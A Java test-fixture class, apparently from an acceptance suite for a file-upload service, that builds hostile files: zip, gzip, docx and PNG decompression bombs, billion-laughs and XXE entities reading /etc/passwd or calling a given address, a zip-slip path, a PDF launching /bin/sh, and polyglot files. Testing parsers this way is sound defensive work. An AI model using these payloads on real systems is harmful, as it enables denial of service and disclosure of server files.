package io.polyclerk.acceptance;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Files that are made to harm whoever opens them. Each is small enough to be uploaded. */
final class HostileFiles {

    private static final int MEGABYTE = 1024 * 1024;
    private static final int SIDE = 20_000;
    private static final byte[] ZEROS = new byte[MEGABYTE];

    private HostileFiles() {}

    /** What comes out of nothing: so many megabytes of zeros. */
    private static void pour(OutputStream out, int megabytes) throws IOException {
        for (int i = 0; i < megabytes; i++) {
            out.write(ZEROS);
        }
    }

    static byte[] zipBomb() throws IOException {
        return zip(Map.of("notes.txt", 200), Map.of());
    }

    static byte[] gzipBomb() throws IOException {
        ByteArrayOutputStream file = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(file)) {
            pour(gzip, 200);
        }
        return file.toByteArray();
    }

    static byte[] docxBomb() throws IOException {
        return zip(Map.of("word/media/picture.bmp", 300), office(""));
    }

    /** Ten entities that each stand for ten of the one before. */
    static byte[] docxOfEntities() throws IOException {
        StringBuilder types = new StringBuilder("<!DOCTYPE d [<!ENTITY a \"ha\">");
        for (char name = 'b'; name <= 'j'; name++) {
            types.append("<!ENTITY ").append(name).append(" \"").append(("&" + (char) (name - 1) + ";").repeat(10));
            types.append("\">");
        }
        return zip(Map.of(), office(types + "]>", "&j;"));
    }

    static byte[] docxThatFetches(String address) throws IOException {
        return zip(Map.of(), office("<!DOCTYPE d [<!ENTITY e SYSTEM \"" + address + "/entity\">]>", "&e;"));
    }

    /** Its template and a picture lie elsewhere. What is written in it is harmless. */
    static byte[] docxWithParts(String address) throws IOException {
        Map<String, String> parts = office("");
        parts.put("word/_rels/document.xml.rels", """
            <?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
            <Relationship Id="r1" TargetMode="External" Target="%1$s/template.dotx"
              Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>
            <Relationship Id="r2" TargetMode="External" Target="%1$s/picture.png"
              Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/></Relationships>\
            """.formatted(address));
        return zip(Map.of(), parts);
    }

    static byte[] docxWithMacros() throws IOException {
        Map<String, String> parts = office("");
        parts.put("word/vbaProject.bin", "Sub AutoOpen()");
        return zip(Map.of(), parts);
    }

    static byte[] docxThatClimbs(String name) throws IOException {
        Map<String, String> parts = office("");
        parts.put("../../../../../../../../tmp/" + name, "here");
        return zip(Map.of(), parts);
    }

    private static Map<String, String> office(String types) {
        return office(types, "Returns are free within 30 days.");
    }

    private static Map<String, String> office(String types, String text) {
        Map<String, String> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", """
            <?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
            <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
            <Default Extension="xml" ContentType="application/xml"/>
            <Override PartName="/word/document.xml"
              ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>\
            """);
        parts.put("_rels/.rels", """
            <?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
            <Relationship Id="r1" Target="word/document.xml"
              Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>\
            """);
        parts.put(
                "word/document.xml",
                "<?xml version=\"1.0\"?>" + types
                        + "<w:document"
                        + " xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>"
                        + text + "</w:t></w:r></w:p></w:body></w:document>");
        return parts;
    }

    private static byte[] zip(Map<String, Integer> megabytes, Map<String, String> texts) throws IOException {
        ByteArrayOutputStream file = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(file)) {
            for (Map.Entry<String, String> part : texts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue().getBytes(StandardCharsets.UTF_8));
            }
            for (Map.Entry<String, Integer> part : megabytes.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                pour(zip, part.getValue());
            }
        }
        return file.toByteArray();
    }

    /** A form of the XFA kind whose description wants a file of this machine and a page of another. */
    static byte[] xfa(String address) {
        String form =
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\"><!ENTITY b SYSTEM \""
                        + address + "/xfa\">]><xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\">&a;&b;</xdp:xdp>";
        return pdf(
                "<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]/XFA 4 0 R>>>>",
                "<</Length " + form.length() + ">>stream\n" + form + "\nendstream");
    }

    /** Opens a page and starts a program when it is opened. */
    static byte[] pdfWithActions(String address) {
        return pdf(
                "<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
                "<</S/JavaScript/JS(app.launchURL('" + address + "/script'))/Next<</S/URI/URI(" + address
                        + "/uri)/Next<</S/Launch/F(/bin/sh)>>>>>>");
    }

    private static byte[] pdf(String catalogue, String fourth) {
        StringBuilder file = new StringBuilder("%PDF-1.7\n");
        String[] objects = {
            catalogue, "<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>", fourth
        };
        StringBuilder table = new StringBuilder("xref\n0 5\n0000000000 65535 f \n");
        for (int i = 0; i < objects.length; i++) {
            table.append("%010d 00000 n \n".formatted(file.length()));
            file.append(i + 1).append(" 0 obj\n").append(objects[i]).append("\nendobj\n");
        }
        int start = file.length();
        file.append(table)
                .append("trailer<</Size 5/Root 1 0 R>>\nstartxref\n")
                .append(start)
                .append("\n%%EOF\n");
        return file.toString().getBytes(StandardCharsets.ISO_8859_1);
    }

    /** A PDF that is an archive as well. */
    static byte[] pdfAndZip() throws IOException {
        ByteArrayOutputStream file = new ByteArrayOutputStream();
        file.writeBytes(pdf("<</Type/Catalog/Pages 2 0 R>>", "<<>>"));
        file.writeBytes(zip(Map.of(), Map.of("evil.js", "alert(1)")));
        return file.toByteArray();
    }

    /** A picture by its first bytes, and a page with a script. */
    static byte[] gifAndPage(String address) {
        return ("GIF89a/*<html><script src='" + address + "/script'></script><img src='" + address + "/pixel'>*/=1")
                .getBytes(StandardCharsets.ISO_8859_1);
    }

    static byte[] pageThatFetches(String address) {
        return ("<!doctype html><html><head><link rel=stylesheet href='" + address + "/style'><base href='" + address
                        + "'></head><body><h1>Parking</h1><p>There is free parking behind the shop.</p><img"
                        + " src='pixel'><iframe src='" + address + "/frame'></iframe><object data='" + address
                        + "/object'></object></body></html>")
                .getBytes(StandardCharsets.UTF_8);
    }

    /** 400 megapixels that are all white, in some fifty kilobytes. */
    static byte[] hugePng() throws IOException {
        ByteArrayOutputStream rows = new ByteArrayOutputStream();
        try (DeflaterOutputStream deflated = new DeflaterOutputStream(rows, new Deflater(9))) {
            byte[] row = new byte[1 + SIDE / 8];
            for (int i = 0; i < SIDE; i++) {
                deflated.write(row);
            }
        }
        return png(SIDE, rows.toByteArray(), new byte[0]);
    }

    /** A picture of eight pixels beside a note that unpacks to 200 megabytes. */
    static byte[] pngWithNote() throws IOException {
        ByteArrayOutputStream note = new ByteArrayOutputStream();
        note.writeBytes("Comment\0\0".getBytes(StandardCharsets.ISO_8859_1));
        try (DeflaterOutputStream deflated = new DeflaterOutputStream(note, new Deflater(9))) {
            pour(deflated, 200);
        }
        ByteArrayOutputStream rows = new ByteArrayOutputStream();
        try (DeflaterOutputStream deflated = new DeflaterOutputStream(rows)) {
            deflated.write(new byte[16]);
        }
        return png(8, rows.toByteArray(), note.toByteArray());
    }

    private static byte[] png(int side, byte[] rows, byte[] note) {
        ByteArrayOutputStream file = new ByteArrayOutputStream();
        file.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
        // One bit for each pixel, grey.
        chunk(
                file,
                "IHDR",
                ByteBuffer.allocate(13).putInt(side).putInt(side).put((byte) 1).array());
        if (note.length > 0) {
            chunk(file, "zTXt", note);
        }
        chunk(file, "IDAT", rows);
        chunk(file, "IEND", new byte[0]);
        return file.toByteArray();
    }

    private static void chunk(ByteArrayOutputStream file, String kind, byte[] content) {
        CRC32 sum = new CRC32();
        byte[] name = kind.getBytes(StandardCharsets.US_ASCII);
        sum.update(name);
        sum.update(content);
        file.writeBytes(ByteBuffer.allocate(4).putInt(content.length).array());
        file.writeBytes(name);
        file.writeBytes(content);
        file.writeBytes(ByteBuffer.allocate(4).putInt((int) sum.getValue()).array());
    }

    /** A photo whose header says 20,000 by 20,000. @param photo a JPEG */
    static byte[] hugeJpeg(byte[] photo) {
        byte[] file = photo.clone();
        for (int i = 2; i + 8 < file.length; i += 2 + (((file[i + 2] & 0xff) << 8) | (file[i + 3] & 0xff))) {
            int marker = file[i + 1] & 0xff;
            if (marker == 0xc0 || marker == 0xc2) {
                ByteBuffer.wrap(file, i + 5, 4).putShort((short) SIDE).putShort((short) SIDE);
                return file;
            }
        }
        throw new IllegalArgumentException("no frame in this photo");
    }

    /** A quarter of an hour of silence. */
    static byte[] endlessWave() {
        int samples = 8_000 * 900;
        ByteBuffer file = ByteBuffer.allocate(44 + samples).order(ByteOrder.LITTLE_ENDIAN);
        file.put("RIFF".getBytes(StandardCharsets.US_ASCII)).putInt(36 + samples);
        file.put("WAVEfmt ".getBytes(StandardCharsets.US_ASCII)).putInt(16).putShort((short) 1);
        file.putShort((short) 1).putInt(8_000).putInt(8_000).putShort((short) 1).putShort((short) 8);
        file.put("data".getBytes(StandardCharsets.US_ASCII)).putInt(samples);
        return file.array();
    }

    /** Packets of two bytes that each stand for 120 ms: an hour and a half in less than 200 kB. @param note a short one */
    static byte[] endlessOpus(byte[] note) {
        ByteArrayOutputStream file = new ByteArrayOutputStream();
        int second = page(note, page(note, 0));
        file.write(note, 0, second);
        for (int page = 2; page < 202; page++) {
            ByteBuffer head = ByteBuffer.allocate(27 + 255 + 510).order(ByteOrder.LITTLE_ENDIAN);
            head.put("OggS".getBytes(StandardCharsets.US_ASCII)).put((byte) 0).put((byte) 0);
            head.putLong((page - 1L) * 255 * 5_760)
                    .put(note, 14, 4)
                    .putInt(page)
                    .putInt(0)
                    .put((byte) 255);
            for (int i = 0; i < 255; i++) {
                head.put((byte) 2);
            }
            for (int i = 0; i < 255; i++) {
                head.put((byte) 0x4b).put((byte) 6);
            }
            head.putInt(22, checksum(head.array()));
            file.writeBytes(head.array());
        }
        return file.toByteArray();
    }

    /** A note whose pages claim to end in half a million years, before they began, or after the end of the numbers. */
    static byte[] absurdTimes(byte[] note, long time) {
        byte[] absurd = note.clone();
        ByteBuffer bytes = ByteBuffer.wrap(absurd).order(ByteOrder.LITTLE_ENDIAN);
        for (int at = page(note, page(note, 0)); at < note.length; at = page(note, at)) {
            bytes.putLong(at + 6, time).putInt(at + 22, 0);
            bytes.putInt(at + 22, checksum(Arrays.copyOfRange(absurd, at, page(note, at))));
        }
        return absurd;
    }

    /** @return where the page after the one at this place begins */
    private static int page(byte[] note, int at) {
        int segments = note[at + 26] & 0xff;
        int size = 0;
        for (int i = 0; i < segments; i++) {
            size += note[at + 27 + i] & 0xff;
        }
        return at + 27 + segments + size;
    }

    /** As Ogg counts: polynomial 0x04c11db7, nothing mirrored. */
    private static int checksum(byte[] page) {
        int sum = 0;
        for (byte one : page) {
            sum ^= (one & 0xff) << 24;
            for (int bit = 0; bit < 8; bit++) {
                sum = sum < 0 ? sum << 1 ^ 0x04c11db7 : sum << 1;
            }
        }
        return sum;
    }

    static byte[] half(byte[] file) {
        return Arrays.copyOf(file, file.length / 2);
    }
}
